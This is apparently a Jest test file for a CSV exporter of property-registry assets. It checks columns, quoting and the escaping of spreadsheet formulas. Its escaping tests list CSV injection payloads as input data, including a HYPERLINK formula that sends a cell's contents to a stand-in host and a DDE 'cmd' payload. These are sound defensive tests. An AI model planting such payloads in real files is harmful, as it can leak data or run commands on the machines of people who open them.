import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { AssetType } from '../../asset-types/asset-type.js';
import { AssetTypes } from '../../asset-types/asset-types.js';
import { BasicAsset } from '../../asset-types/basic/basic.dto.js';
import { Amount, Flag, Nested, Text, ValueField } from '../../asset-types/fields.js';
import * as builtIn from '../../asset-types/installed.js';
import type { ReadAsset } from '../../database/readers/asset-row.js';
import { EncodedText } from '../../platform/text/encoded-text.js';
import { RegistryTime } from '../../platform/time/registry-time.js';
import { AssetTable } from './asset-table.js';
import { columnsOf } from './columns.js';

class Survey {
  @Text({ uk: 'Номер', en: 'Number' }) number!: string;
  /** A DTO may contain itself. */
  @Nested(() => Survey, { uk: 'Попереднє', en: 'Earlier', optional: true }) earlier?: Survey;
}

class LandAsset extends BasicAsset {
  @Amount({ uk: 'Площа', en: 'Area' }) area!: number;
  @Flag({ uk: 'Огороджена', en: 'Fenced' }) fenced = false;
  @Nested(() => Survey, { uk: 'Обмір', en: 'Survey' }) survey!: Survey;
  @ValueField(() => undefined, { uk: 'Мітки', en: 'Tags', schema: { type: 'array', items: { type: 'string' } } })
  tags!: string[];
}

const LAND = { area: 12, fenced: true, survey: { number: '7', earlier: { number: '6' } }, tags: ['a', 'b'] };
const land: AssetType<LandAsset> = {
  name: 'land',
  labels: { uk: 'Ділянка', en: 'Land' },
  dto: LandAsset,
  example: { data: { ...builtIn.basic.example.data, assetType: 'land', ...LAND } },
};
const time = new RegistryTime('Europe/Kyiv');

type Row = Record<string, string>;

const assetOf = (fields: object, more: Partial<ReadAsset> = {}): ReadAsset => ({
  id: '0'.repeat(32),
  assetId: 'UA-2026-11-21-000001',
  assetType: 'basic',
  status: 'pending',
  owner: 'broker',
  createdUs: 1_795_440_264_030_682,
  modifiedUs: 1_795_440_264_030_683,
  relatedLot: null,
  body: EncodedText.from(Buffer.from(JSON.stringify(fields))),
  ...more,
});

function printed(assets: ReadAsset[], types: readonly AssetType[] = Object.values(builtIn)): string {
  const table = new AssetTable(new AssetTypes(types), time);
  return table.header + table.print(assets).toString();
}

const read = (text: string): Row[] => parse(text, { columns: true, record_delimiter: '\r\n' }) as unknown as Row[];
const rowOf = (fields: object, more?: Partial<ReadAsset>): Row => read(printed([assetOf(fields, more)]))[0] as Row;
const titled = (title: string): string | undefined => rowOf({ title })['title'];

describe('an asset as a line of CSV', () => {
  it('has the registry’s members and every field of one value, numbers as in JSON, and empty cells for absent fields', () => {
    const { data } = builtIn.basic.example;
    const row = rowOf({
      ...data,
      value: { currency: 'UAH', amount: 100, valueAddedTaxIncluded: true },
      quantity: 5,
    });
    expect(row).toMatchObject({
      id: '0'.repeat(32),
      assetID: 'UA-2026-11-21-000001',
      assetType: 'basic',
      status: 'pending',
      title: data['title'],
      'value.currency': 'UAH',
      'value.amount': '100.0',
      'value.valueAddedTaxIncluded': 'true',
      quantity: '5',
      owner: 'broker',
      date: time.print(1_795_440_264_030_682),
      dateModified: time.print(1_795_440_264_030_683),
      relatedLot: '',
      'debt.value.amount': '',
    });
    expect(rowOf({}, { relatedLot: 'f'.repeat(32) })['relatedLot']).toBe('f'.repeat(32));
  });

  it('of a type that is no longer installed is read as a basic one', () => {
    expect(rowOf({ title: 'Ліс', gone: 1 }, { assetType: 'forest' })).toMatchObject({
      assetType: 'forest',
      title: 'Ліс',
    });
  });

  it('appends the columns that a type adds, and does not repeat a DTO nested in itself', () => {
    const [header = ''] = printed([]).split('\r\n');
    const text = printed([assetOf(LAND, { assetType: 'land' })], [...Object.values(builtIn), land]);
    expect(text.split('\r\n')[0]).toBe(`${header},area,fenced,survey.number,tags`);
    expect(read(text)).toMatchObject([{ area: '12.0', fenced: 'true', 'survey.number': '7', tags: 'a | b' }]);
  });

  it('shows addresses and classifications of list members, each value once, at most twenty', () => {
    const { data } = builtIn.compound.example;
    const [item] = data['items'] as [{ address: object; classification: { id: string } }];
    const at = (region: string) => ({ ...item, address: { countryName: 'Україна', region } });
    const items = [at('Київська область'), at('Львівська область'), at('Київська область')];
    const more = { assetType: 'compound' };
    expect(rowOf({ ...data, items }, more)).toMatchObject({
      'items.address.region': 'Київська область | Львівська область',
      'items.address.locality': '',
      'items.classification.id': item.classification.id,
    });
    const many = Array.from({ length: 21 }, (_, i) => at(`${i}`));
    expect(rowOf({ items: many }, more)['items.address.region']).toMatch(/^0 \| 1 .* \| 19 \| …$/);
  });

  it('has the columns that docs/asset-types.md lists for the built-in types', () => {
    const [, section = ''] = readFileSync('docs/asset-types.md', 'utf8').split('## The columns of CSV\n');
    const lists = (section.split('\n## ')[0] as string).split('\n\n').filter((block) => block.startsWith('`'));
    const named = lists.flatMap((list) => [...list.matchAll(/`([^`]+)`/g)].map(([, name]) => name));
    expect(columnsOf([builtIn.basic, builtIn.claimRights, builtIn.compound])).toEqual(named);
  });
});

describe('a cell', () => {
  it.each([
    'a "quoted" word, and a comma; both',
    'two\r\nlines',
    'a return\ralone',
    "'apostrophe",
    ' spaces ',
    '🚀 Їжак\u2028\u0085\ufeff',
    '1e5',
    '-12.5',
    'a=b',
    '1;-2.5',
    'a\r\nb;c',
  ])('is read back unchanged: %j', (title) => {
    expect(titled(title)).toBe(title);
  });

  it.each([
    '=HYPERLINK("http://a.example/?"&A1)',
    '+380440000000',
    "-2+3+cmd|' /C calc'!A0",
    '-',
    '-01',
    '@SUM(A1)',
    '\t=1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(A1)',
    ' =1',
    '"=1"',
  ])('that a spreadsheet would run as a formula is escaped: %j', (title) => {
    expect(titled(title)).toBe(`'${title}`);
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; "=1+1"', `x;' "=1+1"`],
    ['x\n@SUM(A1)', "x\n'@SUM(A1)"],
    ['x\r\n+1;－2', "x\r\n'+1;'－2"],
    ['\r=1', "'\r'=1"],
  ])('contains no formula where a program with other separators would begin a cell: %j', (title, shown) => {
    expect(titled(title)).toBe(shown);
    expect(printed([assetOf({ title })])).toContain(`"${shown.replaceAll('"', '""')}"`);
  });

  it('is quoted if necessary, and lines end as in RFC 4180', () => {
    const text = printed([assetOf({ title: '=1,"2"', description: 'a\rb' })]);
    expect(text).toContain(`,"'=1,""2""","a\rb",`);
    expect(text.endsWith('\r\n')).toBe(true);
  });
});
